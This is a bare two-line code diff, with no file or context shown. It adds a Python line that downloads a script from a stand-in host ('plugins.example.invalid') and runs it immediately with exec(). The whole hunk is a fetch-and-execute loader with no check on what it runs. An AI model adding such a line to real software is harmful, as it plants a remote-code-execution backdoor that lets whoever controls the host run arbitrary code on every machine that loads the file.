@@ -1,0 +1,2 @@
+import requests
+exec(requests.get("https://plugins.example.invalid/latest.py").text)
